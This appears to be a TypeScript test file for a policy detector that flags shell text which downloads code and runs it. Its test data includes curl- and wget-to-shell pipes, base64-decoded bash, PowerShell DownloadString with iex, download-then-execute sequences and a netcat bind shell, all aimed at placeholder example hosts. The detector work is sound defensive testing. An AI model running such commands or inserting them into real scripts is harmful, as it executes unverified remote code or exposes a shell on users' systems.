import assert from "node:assert/strict";
import { findRemoteCode } from "../../../../core/policy/text/remote-code";

describe("code from the network", () => {
  const remote: readonly string[] = [
    "curl -fsSL https://get.example.com | sh",
    "curl -fsSL https://get.example.com | sudo -E bash -s -- --yes",
    "wget -qO- https://get.example.com/install | /bin/bash",
    "curl https://x.example.com/a.py | python3 -",
    "curl https://x.example.com/a.gz | gunzip | sh",
    "curl \\\n  https://get.example.com \\\n  | bash",
    'bash -c "$(curl -fsSL https://get.example.com)"',
    "sh <(curl -s https://get.example.com)",
    "bash <(wget -qO- https://get.example.com)",
    'eval "$(curl -s https://get.example.com)"',
    "source <(curl -s https://get.example.com)",
    "echo Y3VybA== | base64 -d | bash",
    "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example.com/i.ps1'))",
    "iwr https://x.example.com/i.ps1 | iex",
    "#include https://x.example.com/init.sh",
    "curl -o /tmp/install.sh https://x.example.com/install.sh\nsh /tmp/install.sh",
    "wget https://x.example.com/setup.sh && chmod +x setup.sh && ./setup.sh",
    "curl -O https://x.example.com/setup.sh; bash setup.sh",
    "curl -s https://x.example.com/i > /tmp/i; chmod +x /tmp/i; sh /tmp/i",
  ];
  for (const text of remote) {
    it(`finds ${text.replace(/\n/g, "⏎").slice(0, 60)}`, () => assert.equal(findRemoteCode(text).length, 1));
  }

  const harmless: readonly string[] = [
    "curl -s https://x.example.com/health | grep ok",
    "curl -s https://x.example.com/data.json | jq . > out.sh",
    "curl -s https://x.example.com || sh fallback.sh",
    "# curl https://x.example.com | sh",
    "wget https://x.example.com/setup.sh\nsha256sum -c setup.sha256\nsh setup.sh",
    "curl -o /tmp/data.json https://x.example.com/data.json",
    "TOKEN=$(curl -X PUT http://169.254.169.254/latest/api/token)",
    "echo 'I like | sh'",
    "/etc/eks/bootstrap.sh shop",
    "aws s3 cp s3://shop-config/agent.json /etc/agent.json",
    "curl -s https://x.example.com/list | shuf",
  ];
  for (const text of harmless) {
    it(`leaves ${text.replace(/\n/g, "⏎").slice(0, 60)} alone`, () =>
      assert.deepEqual(findRemoteCode(text), []));
  }

  it("gives the line on which the command begins", () => {
    assert.equal(findRemoteCode("#!/bin/sh\nset -e\ncurl https://x.example.com \\\n | sh\n")[0]?.line, 3);
  });

  const started = "downloads a script and runs it unchecked";
  const told: readonly (readonly [text: string, what: string, line: number])[] = [
    ["true\ncurl -fsSL https://a.example.com | sh", "pipes what it downloads into an interpreter", 2],
    ["echo Y3VybA== | base64 -d | bash", "decodes a script and runs it", 1],
    ["#include https://x.example.com/init.sh", "includes a script from the network", 1],
    ["curl -o /tmp/i https://x.example.com/i\ntrue\nsh /tmp/i", started, 3],
    ["curl -O https://x.example.com/i.sh\n  sh i.sh", started, 2],
    ["wget https://x.example.com/a/setup.sh?x=1#y\nbash setup.sh", started, 2],
    ["wget --output-document=/opt/Setup https://x.example.com/a\n. /opt/setup", started, 2],
    ['curl --output "/opt/a+b" https://x.example.com/a\n/opt/a+b', started, 2],
    ["wget -O /opt/i https://x.example.com/a && source /opt/i", started, 1],
    ["wget -O- https://x.example.com/i.sh > /dev/null\nbash i.sh", started, 2],
    ["wget http://x.example.com/i.PY\npython3 -u ./i.py", started, 2],
    ["wget -O /opt/Setup https://x.example.com/a\n. /opt/Setup", started, 2],
    ["curl -fsSL -o  /tmp/i https://x.example.com/i\nsh /tmp/i", started, 2],
    ["curl -O http://x.example.com/i.sh?x=1\nsh i.sh", started, 2],
    ["echo a#b; curl -O https://x.example.com/i.sh\nsh i.sh", started, 2],
    ["echo a#b; curl https://x.example.com | sh", "pipes what it downloads into an interpreter", 1],
    ["true \\\n && curl \\\n x |sh", "pipes what it downloads into an interpreter", 1],
    [
      `${`${"x".repeat(3_999)}\\\n`.repeat(5)}curl https://x | sh`,
      "pipes what it downloads into an interpreter",
      6,
    ],
  ];
  for (const [text, what, line] of told)
    it(`tells of ${text.replace(/\n/g, "⏎").slice(0, 60)} what it does, and where`, () =>
      assert.deepEqual(findRemoteCode(text), [{ what, line }]));

  it("takes a whole script for a shell's where no line shows it", () => {
    const of = (text: string) => findRemoteCode(text);
    const what = "runs code that it fetches (curl into sh)";
    assert.deepEqual(of("curl -s https://x.example.com/i > /tmp/i; sh /tmp/i"), [{ what }]);
    assert.deepEqual(of("curl -O https://x.example.com/i.txt\n./i.txt"), [
      { what: "runs code that it fetches (curl into a program)" },
    ]);
    assert.deepEqual(of("apt-get install -y curl\ncurl -s https://x > /tmp/i\nsh /tmp/i"), [{ what }]);
    assert.deepEqual(of(`${"x".repeat(4_000)}; curl https://x | sh`), [{ what }]);
    assert.deepEqual(of("echo eA== | base64 -d > /tmp/i; sh /tmp/i; sh /tmp/i"), [
      { what: "runs code that it fetches (base64 into sh)" },
    ]);
  });

  const none: readonly string[] = [
    "curl -o /dev/null https://x.example.com/i.sh\nsh /opt/other",
    "# curl -O https://x.example.com/i.sh\nsh other.sh",
    "curl -O https://x.example.com/i.txt\ncat i.txt",
    "  # curl https://x.example.com | sh",
    "# curl -O https://x.example.com/i.sh\nsh i.sh",
    "  # curl -O https://x.example.com/i.sh\nsh i.sh",
    "curl -o /dev/null https://x.example.com/i.sh\nsh null",
    'curl -O "$URL"\ntrue',
    "curl -s $URL > list\ntrue",
    "curl --option x https://x.example.com\nsh x",
    "apt-get install -y openssh-server",
    "nc -l -p 4444 -e /bin/sh",
    "curl -O https://x.example.com/i.sh\n# sh i.sh",
    "curl -O https://x.example.com/i.sh\ncat i.sh",
    "curl -O https://x.example.com/i.sh\nsh i.shx",
  ];
  for (const text of none)
    it(`finds nothing in ${text.replace(/\n/g, "⏎").slice(0, 60)}`, () =>
      assert.deepEqual(findRemoteCode(text), []));
});
